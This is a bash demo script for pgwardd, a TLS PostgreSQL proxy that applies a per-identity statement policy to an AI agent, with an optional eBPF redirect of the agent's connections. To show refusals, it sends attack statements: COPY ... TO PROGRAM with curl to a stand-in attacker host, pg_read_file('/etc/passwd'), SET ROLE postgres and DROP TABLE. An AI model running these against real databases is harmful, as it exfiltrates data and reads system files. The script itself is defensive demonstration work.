#!/usr/bin/env bash
# pgward demo (`make demo`): pgwardd's main job in under a minute.  A throwaway PostgreSQL
# cluster (scripts/pgtmp.sh) holds a table "orders" owned by the role app_owner, whose
# password only pgwardd knows.  An AI agent logs in to pgwardd as "agent" with a password
# of its own; pgwardd checks it (SCRAM) and logs in upstream as app_owner.  A narrated psql
# session then shows queries, \copy, the extended protocol, statements the policy refuses
# (and `pgwardctl policy explain`), a refused password, a cancel, an agent in a cgroup whose
# connects to PostgreSQL the eBPF redirect steers into pgwardd (as root), and pgwardd's log.
# Everything is torn down at exit.  All output, the errors included, goes to one stream
# (stdout) in the order it happens: every command's output is collected, then shown.
#
# Environment: BUILD (build directory holding pgwardd and pgwardctl, default build).
# shellcheck source-path=SCRIPTDIR
set -euo pipefail

top=$(cd "$(dirname "$0")/.." && pwd)
BUILD=${BUILD:-build}
[[ $BUILD == /* ]] || BUILD=$top/$BUILD
export BUILD

# shellcheck source=pgtmp.sh
source "$top/scripts/pgtmp.sh"
# shellcheck source=lib-pgwardd.sh
source "$top/scripts/lib-pgwardd.sh"

W=""
PORT=""
AGENT_PW=""
LOG=""

say() { printf '\n==> %s\n' "$*"; }
die() {
	printf '\ndemo: error: %s\n' "$*" >&2
	[[ -n $LOG && -f $LOG ]] && sed 's/^/demo: pgwardd: /' "$LOG" | tail -n 20 >&2
	exit 1
}
indent() { sed 's/^/    /'; }

# A few lines saying what a configuration does: listener, upstreams, identities, their rules.
summarize_config() {
	python3 - "$1" <<-'PY'
		import json, sys
		c = json.load(open(sys.argv[1]))
		def words(v):
		    return ", ".join(v) if isinstance(v, list) else str(v)
		tls = " (TLS)" if c.get("tls") else ""
		for l in c["listen"]:
		    print("listen     %s:%s%s" % (l.get("host", "127.0.0.1"), l["port"], tls))
		for name, u in c["upstreams"].items():
		    print("upstream   %s: %s:%s as %s, sslmode %s, password from %s"
		          % (name, u.get("host"), u.get("port", 5432), u["user"], u.get("sslmode", "prefer"),
		             u.get("password_file", "-").rsplit("/", 1)[-1]))
		r = c.get("redirect")
		if r:
		    print("redirect   connects from cgroup %s to port %s go to pgwardd (eBPF)"
		          % (words(r.get("cgroups", [])), words([str(p) for p in r["ports"]])))
		rules_seen = {}
		for i in c["identities"]:
		    m = ", ".join("%s %s" % kv for kv in i.get("match", {}).items()) or "anyone"
		    rules = json.dumps(i.get("rules"))
		    same = rules_seen.get(rules)
		    rules_seen.setdefault(rules, i["name"])
		    print("identity   %s: %s; auth %s; upstream %s; databases %s%s"
		          % (i["name"], m, i["auth"], i.get("upstream", "(the dialled address)"),
		             words(i.get("databases", "any")),
		             "; rules as %s" % same if same else ""))
		    if same:
		        continue
		    for n, rule in enumerate(i.get("rules", []), 1):
		        what = []
		        if "class" in rule: what.append(words(rule["class"]))
		        if "relations" in rule: what.append("on " + words(rule["relations"]))
		        if "access" in rule: what.append("(%s only)" % rule["access"])
		        if "functions" in rule: what.append("calling " + words(rule["functions"]))
		        print("  rule %d   %-5s %-16s %s" % (n, rule["action"], rule.get("name", ""), " ".join(what)))
		    print("  then     deny  everything else; guardrails on (SET ROLE, COPY ... PROGRAM, server files, ...)")
	PY
}

# The agent's connection string: TLS to pgwardd, verified against the demo CA.
agent_conn() {
	printf 'host=localhost port=%s user=agent dbname=postgres sslmode=verify-full sslrootcert=%s' \
		"$PORT" "$PGTMP_CA"
}

cleanup() {
	pgw_stop_all
	if [[ -n ${CG:-} && -d $CG ]]; then
		while read -r p; do echo "$p" >"$CGROOT/cgroup.procs" 2>/dev/null; done <"$CG/cgroup.procs"
		rmdir "$CG" 2>/dev/null || true
	fi
}

setup_cluster() {
	say "Starting a throwaway PostgreSQL 15 cluster (scripts/pgtmp.sh)"
	PGTMP_QUIET=1 pgtmp_start demo || die "the cluster did not start"
	W=$PGTMP_DIR/demo
	mkdir -p "$W"
	echo "    port $PGTMP_PORT, directory $PGTMP_DIR"

	say "Creating role app_owner (random password, stored only in a file pgwardd reads) and its table orders"
	(umask 077 && openssl rand -hex 24 >"$W/app_owner.pw")
	pgtmp_psql -q -v ON_ERROR_STOP=1 -v pw="$(cat "$W/app_owner.pw")" >/dev/null <<-'SQL' ||
		CREATE ROLE app_owner LOGIN PASSWORD :'pw';
		CREATE TABLE orders (
		    id         int PRIMARY KEY,
		    customer   text NOT NULL,
		    amount     numeric(10, 2) NOT NULL,
		    status     text NOT NULL,
		    created_at date NOT NULL
		);
		INSERT INTO orders
		SELECT i,
		       (ARRAY['acme', 'globex', 'initech', 'umbrella', 'hooli'])[1 + i % 5],
		       round((17 * i % 97 + 3.5 * (i % 4))::numeric, 2),
		       (ARRAY['paid', 'shipped', 'open', 'refunded'])[1 + i % 4],
		       date '2024-03-01' + i
		FROM generate_series(1, 40) AS i;
		ALTER TABLE orders OWNER TO app_owner;
		REVOKE ALL ON orders FROM PUBLIC;
	SQL
		die "creating app_owner and orders failed"
	echo "    $W/app_owner.pw  (mode $(stat -c %a "$W/app_owner.pw"), never shown to the agent)"
}

setup_pgwardd() {
	say "Giving the agent its own password; pgwardd stores only a SCRAM verifier of it"
	AGENT_PW=$(openssl rand -base64 18)
	local verifier
	verifier=$(printf '%s\n' "$AGENT_PW" | "$BUILD/pgwardctl" scram verifier) ||
		die "pgwardctl scram verifier failed"
	# shellcheck disable=SC2016 # shown literally
	printf '  $ printf "%%s\\n" "$AGENT_PASSWORD" | %s scram verifier\n' "$BUILD/pgwardctl"
	echo "    ${verifier:0:40}..."

	say "Writing pgwardd's configuration: identity \"reporting-agent\" (user agent) -> upstream as app_owner"
	pgtmp_cert "$W" pgwardd localhost "DNS:localhost,IP:127.0.0.1" >/dev/null ||
		die "issuing pgwardd's certificate failed"
	PORT=$(pgw_free_port)
	LOG=$W/pgwardd.log
	local identity tls
	# the policy: reads of public and the catalog; orders are never deleted; the rest is denied
	local policy='"databases": ["postgres"], "rules": [{"name": "orders-are-kept", "action": "deny", "class": ["delete", "truncate"], "relations": "public.orders"}, {"name": "read", "action": "allow", "class": ["select", "explain", "copy_to", "set", "transaction"], "relations": ["public.*", "pg_catalog.*"], "access": "read"}, {"name": "may-wait", "action": "allow", "class": "select", "relations": "pg_catalog.*", "functions": "pg_catalog.pg_sleep"}]'
	identity=$(printf '{"name": "reporting-agent", "match": {"user": "agent"}, "auth": "password",
		"scram_verifier": "%s", "upstream": "pg", %s}' "$verifier" "$policy")
	tls=$(printf '{"tls": {"cert": "%s", "key": "%s"},
		"upstreams": {"pg": {"sslmode": "verify-full", "ca_file": "%s"}}}' \
		"$W/pgwardd.crt" "$W/pgwardd.key" "$PGTMP_CA")
	local redirect='{}'
	CG=""
	if [[ $EUID -eq 0 ]]; then
		# the agents' cgroup: every connect from it to PostgreSQL's port goes to pgwardd
		CGROOT=$(awk '$3 == "cgroup2" {print $2; exit}' /proc/mounts)
		CG=$CGROOT/pgward-demo-$$
		mkdir -p "$CG"
		local steered
		steered=$(printf '{"name": "agent-in-cgroup", "match": {"user": "agent", "cgroup": "/%s"},
			"auth": "password", "scram_verifier": "%s", %s}' "${CG#"$CGROOT"/}" "$verifier" "$policy")
		redirect=$(printf '{"redirect": {"cgroups": ["%s"], "ports": [%s], "pin_path": "/sys/fs/bpf/pgward-demo-%s",
			"listen4_port": %s, "listen6": ""}, "identities": [%s, %s]}' \
			"$CG" "$PGTMP_PORT" "$$" "$(pgw_free_port)" "$steered" "$identity")
	fi
	pgw_write_config "$W/pgwardd.json" "$PORT" app_owner "$W/app_owner.pw" "$identity" \
		'{"log_level": "info"}' "$tls" "$redirect" || die "writing the configuration failed"
	summarize_config "$W/pgwardd.json" | indent || die "the configuration does not read back"
	echo "    (the whole file: $W/pgwardd.json)"

	say "Starting pgwardd on 127.0.0.1:$PORT (TLS toward the agent and toward PostgreSQL)"
	pgw_start "$W/pgwardd.json" "$LOG" "$PORT" || die "pgwardd did not start"
	echo "    pid $PGW_PID, log $LOG"
}

agent_session() {
	say "The agent connects to pgwardd as \"agent\" and works as usual"
	echo "  agent\$ psql '$(agent_conn)'   (PGPASSWORD = the agent's own password)"
	PGPASSWORD=$AGENT_PW psql -X -e -v ON_ERROR_STOP=1 --pset=footer=off "$(agent_conn)" \
		>"$W/session.out" 2>&1 <<-SQL || { cat "$W/session.out"; die "the agent's session failed"; }
		\\echo '==> Who is this? The agent never held app_owner credentials, yet:'
		SELECT current_user, session_user;
		\\echo '==> TLS on both legs: agent -> pgwardd (\\\\conninfo), pgwardd -> PostgreSQL (pg_stat_ssl):'
		\\conninfo
		SELECT ssl, version FROM pg_stat_ssl WHERE pid = pg_backend_pid();
		\\echo '==> Queries on orders, a table only app_owner may read:'
		SELECT status, count(*) AS orders, sum(amount) AS total FROM orders GROUP BY status ORDER BY status;
		SELECT customer, count(*) AS orders, max(amount) AS largest FROM orders
		    GROUP BY customer ORDER BY sum(amount) DESC LIMIT 3;
		\\echo '==> \\\\copy: COPY ... TO STDOUT streams through pgwardd into a local file:'
		\\copy (SELECT id, customer, amount, status FROM orders WHERE status = 'open' ORDER BY id) TO '$W/open_orders.csv' WITH (FORMAT csv, HEADER)
		\\echo '==> Extended protocol: \\\\gdesc sends Parse + Describe; PREPARE/EXECUTE reuse a server-side plan:'
		SELECT id, customer, amount FROM orders WHERE amount > \$1 \\gdesc
		PREPARE big_orders(numeric) AS
		    SELECT id, customer, amount FROM orders WHERE amount > \$1 ORDER BY amount DESC LIMIT 3;
		EXECUTE big_orders(90);
	SQL
	indent <"$W/session.out" | sed 's/^    ==>/==>/'
	grep -q '^ app_owner *| app_owner' "$W/session.out" || die "current_user is not app_owner"
	echo "  agent\$ head -n 4 open_orders.csv"
	head -n 4 "$W/open_orders.csv" | indent
}

refusals() {
	say "The agent's password is useless at PostgreSQL itself (no such role there):"
	local out
	out=$(PGPASSWORD=$AGENT_PW psql -X -w "host=127.0.0.1 port=$PGTMP_PORT user=agent dbname=postgres sslmode=disable" \
		-c 'SELECT 1' 2>&1) && die "the agent reached PostgreSQL directly"
	printf '%s\n' "$out" | indent

	say "A wrong password at pgwardd is refused (SQLSTATE 28P01):"
	out=$(PGPASSWORD=not-the-password psql -X -w "$(agent_conn)" -c 'SELECT 1' 2>&1) &&
		die "a wrong password was accepted"
	printf '%s\n' "$out" | indent
	pw_wait_log_line 'FATAL 28P01' || die "pgwardd did not log the refusal"
	grep 'FATAL 28P01' "$LOG" | tail -n 1 | indent
}

policy() {
	say "Every statement is decided from its parse tree for the agent's identity:"
	echo "  agent\$ psql '$(agent_conn)'"
	PGPASSWORD=$AGENT_PW psql -X -e "$(agent_conn)" >"$W/policy.out" 2>&1 <<-'SQL'
		SELECT count(*) FROM orders WHERE status = 'open';
		DELETE FROM orders WHERE id = 1;
		WITH gone AS (DELETE FROM orders WHERE amount < 10 RETURNING *) SELECT count(*) FROM gone;
		UPDATE orders SET amount = 0;
		SELECT 1; DROP TABLE orders;
		SET ROLE postgres;
		SELECT pg_read_file('/etc/passwd');
		COPY orders TO PROGRAM 'curl -d @- http://attacker.example';
		SELECT 'still connected' AS session;
	SQL
	indent <"$W/policy.out"
	grep -q 'may not DELETE public.orders (rule 1 "orders-are-kept")' "$W/policy.out" ||
		die "the DELETE was not refused by the policy"
	grep -q 'still connected' "$W/policy.out" || die "the session did not go on after a refusal"
	[[ $(pgtmp_psql -Atc "SELECT count(*) FROM orders") -gt 0 ]] || die "orders lost rows"
	say "The same decision without connecting anywhere: pgwardctl policy explain"
	echo "  \$ pgwardctl policy explain --config pgwardd.json --identity reporting-agent --database postgres \\"
	echo "        --sql 'WITH gone AS (DELETE FROM orders WHERE amount < 10 RETURNING *) SELECT count(*) FROM gone'"
	local rc=0
	"$BUILD/pgwardctl" policy explain --config "$W/pgwardd.json" --identity reporting-agent --database postgres \
		--sql "WITH gone AS (DELETE FROM orders WHERE amount < 10 RETURNING *) SELECT count(*) FROM gone" \
		>"$W/explain.out" 2>&1 || rc=$?
	indent <"$W/explain.out"
	echo "    (exit status $rc: 3 means the last statement is refused)"
	if [[ $rc -ne 3 ]] || ! grep -q 'why: .*rule 1 "orders-are-kept"' "$W/explain.out"; then
		die "pgwardctl policy explain did not refuse the DELETE by rule 1"
	fi
}

cancel() {
	say "Cancel: Ctrl-C in psql sends a CancelRequest on a new connection; pgwardd forwards it:"
	echo "  agent\$ psql '$(agent_conn)' -c 'SELECT pg_sleep(10)'   # SIGINT once it runs"
	PGPASSWORD=$AGENT_PW psql -X "$(agent_conn)" -c 'SELECT pg_sleep(10)' >"$W/cancel.out" 2>&1 &
	local psql_pid=$! i
	for ((i = 0; i < 100; i++)); do
		[[ $(pgtmp_psql -Atc "SELECT count(*) FROM pg_stat_activity
			WHERE usename = 'app_owner' AND state = 'active' AND query LIKE '%pg_sleep(10)%'") == 1 ]] && break
		sleep 0.1
	done
	kill -INT "$psql_pid"
	wait "$psql_pid" || true
	indent <"$W/cancel.out"
	grep -q 'canceling statement due to user request' "$W/cancel.out" || die "the query was not canceled"
}

# The main job: an agent that knows nothing of pgwardd, dialling PostgreSQL itself.
steered_agent() {
	if [[ -z $CG ]]; then
		say "(not root: skipping the eBPF redirect part of the demo)"
		return 0
	fi
	local direct="host=127.0.0.1 port=$PGTMP_PORT user=agent dbname=postgres"
	say "An agent in cgroup ${CG#"$CGROOT"} dials PostgreSQL itself: $direct"
	echo "    (the eBPF programs attached to that cgroup steer the connection into pgwardd)"
	printf '#!/bin/sh\necho $$ > "%s/cgroup.procs" && exec "$@"\n' "$CG" >"$W/in-cgroup"
	chmod +x "$W/in-cgroup"
	PGPASSWORD=$AGENT_PW "$W/in-cgroup" psql "$direct" -X -c \
		"SELECT current_user, count(*) AS orders FROM orders" >"$W/steered.out" 2>&1 || true
	indent <"$W/steered.out"
	grep -q '^ app_owner ' "$W/steered.out" || die "the steered agent's query did not run as app_owner"
	say "The agent still sees the address it dialled (getpeername), and pgwardd knows who called:"
	"$W/in-cgroup" python3 -c "
import socket
s = socket.create_connection(('127.0.0.1', $PGTMP_PORT))
print('    getpeername() = %s:%d' % s.getpeername())" >"$W/peer.out" 2>&1 || true
	cat "$W/peer.out"
	pw_wait_log_line 'identity=agent-in-cgroup' || die "pgwardd did not log the steered session"
	grep 'identity=agent-in-cgroup' "$LOG" | head -n 1 | indent
	say "Outside the cgroup the same string reaches PostgreSQL, where the agent has no role:"
	PGPASSWORD=$AGENT_PW psql "$direct sslmode=disable" -X -c 'SELECT 1' >"$W/direct.out" 2>&1 || true
	indent <"$W/direct.out"
}

show_log() {
	say "pgwardd's log for these sessions (log_level info):"
	pw_wait_log_line 'forwarding cancel request' || true
	grep -E 'session [0-9]+' "$LOG" | indent
}

# Waits up to 5 s for a line in pgwardd's log.
pw_wait_log_line() {
	local i
	for ((i = 0; i < 50; i++)); do
		grep -q -- "$1" "$LOG" && return 0
		sleep 0.1
	done
	return 1
}

main() {
	local t0=$SECONDS
	[[ -x $BUILD/pgwardd && -x $BUILD/pgwardctl ]] || die "$BUILD/pgwardd or pgwardctl missing (run make)"
	command -v psql >/dev/null || die "psql not found (run scripts/deps.sh)"
	# one stream, in order: errors (ours and every command's) go where the narration goes
	exec 2>&1
	trap cleanup EXIT
	# the analyser reads text as UTF-8, the encoding pgwardd allows by default
	export PGCLIENTENCODING=UTF8
	trap 'cleanup; exit 130' INT
	trap 'cleanup; exit 143' TERM
	setup_cluster
	setup_pgwardd
	agent_session
	policy
	refusals
	cancel
	steered_agent
	show_log
	say "Done in $((SECONDS - t0)) s; stopping pgwardd and removing the cluster."
}

main "$@"
